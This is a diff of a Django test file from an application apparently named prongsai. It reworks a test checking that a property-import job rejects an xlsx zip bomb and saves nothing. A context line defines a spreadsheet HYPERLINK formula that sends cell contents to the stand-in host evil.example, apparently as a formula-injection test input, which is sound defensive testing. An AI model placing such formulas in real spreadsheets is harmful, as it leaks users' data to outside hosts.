@@ -28,6 +28,7 @@ from prongsai.ita.tests.factories import make_result
 from prongsai.plans import export as plan_export
 from prongsai.plans.tests.factories import make_measure, make_plan
 from prongsai.property import register
+from prongsai.property import tasks as property_tasks
 from prongsai.property.models import Asset
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"ดูรายละเอียด")'
@@ -94,9 +95,9 @@ def test_every_xlsx_import_refuses_the_bomb_and_writes_nothing(bomb):
 
 @pytest.mark.django_db
 def test_the_property_import_job_reports_the_bomb_and_saves_nothing(bomb):
-    job = jobs.enqueue(
-        "property.import", payload={"filename": "b.xlsx"}, upload=SimpleUploadedFile("b.xlsx", bomb),
-        organisation=make_org(),
+    job = jobs.start(
+        property_tasks.import_register, kind="property.import", payload={"filename": "b.xlsx"},
+        upload=SimpleUploadedFile("b.xlsx", bomb), organisation=make_org(),
     )  # fmt: skip
     assert job.status == Job.Status.DONE and "zip bomb" in job.result["errors"][0]
     assert job.result["imported"] == 0 and not Asset.objects.exists()
